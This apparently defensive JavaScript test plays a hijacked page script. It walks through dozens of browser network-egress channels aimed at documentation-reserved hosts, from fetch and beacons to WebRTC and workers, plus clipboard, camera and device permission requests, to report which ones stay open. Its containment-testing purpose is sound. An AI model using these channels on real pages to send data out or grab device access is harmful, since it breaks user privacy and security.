// Runs in a page, as a script that took the page over would: tries each way to reach the network, and returns which of
// them the page should not even have. The hosts are reserved for documentation, so that nobody is disturbed.
;(async () => {
  const hosts = ['192.0.2.1', '[2001:db8::1]', 'way-out.example']

  /** The scopes that a script of the page can reach: its own and those of frames, however they are made. */
  const scopes = new Map([['page', window]])
  const makeFrames = [
    ...['iframe', 'frame', 'object', 'embed', 'fencedframe'].map((tag) => [tag, {}]),
    ['iframe', { src: 'about:blank' }],
    ['iframe', { src: location.href }],
    ['iframe', { src: URL.createObjectURL(new Blob(['x'], { type: 'text/html' })) }],
    ['iframe', { src: 'data:text/html,x' }],
    ['iframe', { srcdoc: 'x' }],
    ['iframe', { sandbox: 'allow-scripts allow-same-origin' }],
    ['iframe', { credentialless: true }],
  ]
  const elements = []
  const add = (tag, properties, parent = document.body) => {
    const element = document.createElement(tag)
    elements.push(element)
    parent.append(Object.assign(element, properties))
    return element
  }
  for (const [tag, properties] of makeFrames) {
    try {
      const { contentWindow } = add(tag, properties)
      const name = `${tag} ${JSON.stringify(properties)}`
      if (contentWindow?.document) scopes.set(name, contentWindow)
    } catch {
      // The page may not make this frame, or not reach into it: no way out.
    }
  }
  for (let index = 0; index < window.length; index++) {
    try {
      if (window[index].document) scopes.set(`frame ${index}`, window[index])
    } catch {
      // The page may not reach into this frame: no way out.
    }
  }
  for (const url of ['', 'about:blank', 'data:text/html,x']) {
    const opened = window.open(url)
    if (opened) scopes.set(`window ${url}`, opened)
  }

  const connect = async (scope) => {
    const Peer = scope.RTCPeerConnection ?? scope.webkitRTCPeerConnection
    const urls = hosts.flatMap((host) => [`turn:${host}:3478?transport=tcp`, `turn:${host}:3478?transport=udp`])
    const iceServers = [
      ...hosts.map((host) => ({ urls: `stun:${host}:3478` })),
      { urls, username: 'a', credential: 'b' },
    ]
    const peer = new Peer({ iceServers, iceCandidatePoolSize: 1 })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve()
    })
  }

  const link = (properties) => add('link', properties, document.head)
  const click = (properties) => add('a', properties).click()
  const credentials = (options) => navigator.credentials.get(options)
  const waysTo = (host) => {
    const url = `https://${host}/`
    const plain = `http://${host}/`
    return [
      () => fetch(url),
      () => fetch(plain, { mode: 'no-cors', keepalive: true }),
      () => window.fetchLater(url),
      () => {
        const request = new XMLHttpRequest()
        request.open('POST', url)
        request.send('x')
      },
      () => navigator.sendBeacon(url, 'x'),
      () => new WebSocket(`wss://${host}/`),
      () => new WebSocket(`ws://${host}/`),
      () => new EventSource(url),
      () => new WebTransport(url).ready,
      () => new window.TCPSocket(host, 80).opened,
      () => new window.UDPSocket({ remoteAddress: host, remotePort: 80 }).opened,
      () => add('img', { src: url, attributionSrc: url }),
      () => add('img', { srcset: `${plain} 2x` }),
      () => add('input', { type: 'image', src: url }),
      () => add('audio', { src: url, autoplay: true }),
      () => add('video', { src: url, poster: url, autoplay: true }).remote.prompt(),
      () => add('track', { src: url, default: true }, add('video', {})),
      () => add('iframe', { src: url }),
      () => add('object', { data: url }),
      () => add('embed', { src: url }),
      () => add('script', { src: url }),
      () => add('script', { src: url, type: 'module' }),
      () => import(/* @vite-ignore */ url),
      () => add('script', { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ urls: [url] }] }) }),
      ...['stylesheet', 'preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'manifest', 'icon'].map(
        (rel) => () => link({ rel, href: url }),
      ),
      ...['script', 'style', 'font', 'image', 'fetch', 'document'].map(
        (as) => () => link({ rel: 'preload', as, href: url }),
      ),
      () => link({ rel: 'preconnect', href: plain, crossOrigin: 'anonymous' }),
      () => link({ rel: 'compression-dictionary', href: url }),
      () => click({ href: '#', ping: url }),
      () => click({ href: url, download: 'x' }),
      () => click({ href: url, target: '_blank' }),
      () => click({ href: url }),
      () => location.assign(plain),
      () => add('meta', { httpEquiv: 'refresh', content: `0; url=${url}` }, document.head),
      ...['mailto', 'ssh', 'smb', 'x-way-out'].flatMap((scheme) => [
        () => click({ href: `${scheme}:a@${host}` }),
        () => location.assign(`${scheme}://${host}`),
        () => add('iframe', { src: `${scheme}://${host}` }),
        () => window.open(`${scheme}://${host}`),
      ]),
      () =>
        add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }, document.head) && add('a', { href: url }),
      () => add('form', { action: url, method: 'post' }).submit(),
      () => document.body.style.setProperty('background', `url(${url})`),
      () => document.body.style.setProperty('cursor', `url(${url}), auto`),
      () => {
        const sheet = new CSSStyleSheet()
        sheet.replaceSync(
          `@font-face { font-family: out; src: url(${url}) } body { mask: url(${url}#a); font-family: out }`,
        )
        document.adoptedStyleSheets = [sheet]
      },
      () => new FontFace('out', `url(${url})`).load(),
      () => new Worker(url),
      () => new Worker(URL.createObjectURL(new Blob([`fetch('${url}'); importScripts('${url}')`]))),
      () => new Worker(`data:text/javascript,fetch('${url}')`),
      () => new SharedWorker(url),
      () => new AudioContext().audioWorklet.addModule(url),
      () => navigator.serviceWorker.register(url),
      () => navigator.registerProtocolHandler('mailto', `${url}%s`),
      () => new PresentationRequest(url).start(),
      () =>
        new PaymentRequest([{ supportedMethods: url }], {
          total: { label: 'x', amount: { currency: 'EUR', value: 1 } },
        }).show(),
      () => credentials({ identity: { providers: [{ configURL: url, clientId: 'x' }] } }),
      () => credentials({ publicKey: { challenge: new Uint8Array(16), rpId: host } }),
      () => navigator.joinAdInterestGroup({ owner: url, name: 'x', biddingLogicURL: url, updateURL: url }, 1_000),
      () => navigator.runAdAuction({ seller: url, decisionLogicURL: url, interestGroupBuyers: [url] }),
      () => window.sharedStorage.createWorklet(url),
      () => new Notification('x', { icon: url }),
      () => navigator.mediaSession.setActionHandler('play', () => {}),
      () => {
        navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] })
      },
      () => navigator.share({ url }),
    ]
  }
  const ways = [
    ...hosts.flatMap(waysTo),
    ...[...scopes.values()].map((scope) => () => connect(scope)),
    () => {
      const recognition = new webkitSpeechRecognition()
      recognition.start()
    },
    () => {
      for (const voice of [null, ...speechSynthesis.getVoices()])
        speechSynthesis.speak(Object.assign(new SpeechSynthesisUtterance('x'), { voice }))
    },
    () => navigator.geolocation.getCurrentPosition(() => {}),
    () => navigator.mediaDevices.getUserMedia({ audio: true, video: true }),
    () => navigator.mediaDevices.getDisplayMedia({ video: true }),
    () => navigator.mediaDevices.enumerateDevices(),
    () => navigator.requestMediaKeySystemAccess('com.widevine.alpha', [{ initDataTypes: ['cenc'] }]),
    () => navigator.requestMIDIAccess({ sysex: true }),
    ...['bluetooth', 'usb', 'serial', 'hid'].map(
      (kind) => () => navigator[kind].requestDevice({ acceptAllDevices: true, filters: [] }),
    ),
    () => navigator.serial.requestPort(),
    () => navigator.xr.requestSession('immersive-vr'),
    () => navigator.login.setStatus('logged-in'),
    () => new IdleDetector().start(),
    () => document.browsingTopics(),
    () => navigator.getInstalledRelatedApps(),
    () => navigator.storage.persist(),
    () => navigator.setAppBadge(1),
    () => document.execCommand('paste'),
    () => navigator.clipboard.readText(),
    () => window.showOpenFilePicker(),
    () => window.print(),
  ]
  const attempts = ways.map(async (way) => way())
  // Some attempts never end. A picture of the app itself ends after each attempt that began before it had its turn.
  const turn = () =>
    new Promise((resolve) => {
      const image = new Image()
      image.onload = image.onerror = resolve
      image.src = `/${Math.random()}.png`
    })
  for (let count = 0; count < 20; count++) await Promise.race([Promise.allSettled(attempts), turn()])

  const names = Object.getOwnPropertyNames(window)
  const result = {
    webRtc: names.filter((name) => /RTC(PeerConnection|DataChannel)/.test(name)),
    scopes: [...scopes.keys()],
  }
  for (const element of elements) element.remove()
  document.adoptedStyleSheets = []
  document.body.removeAttribute('style')
  return result
})()
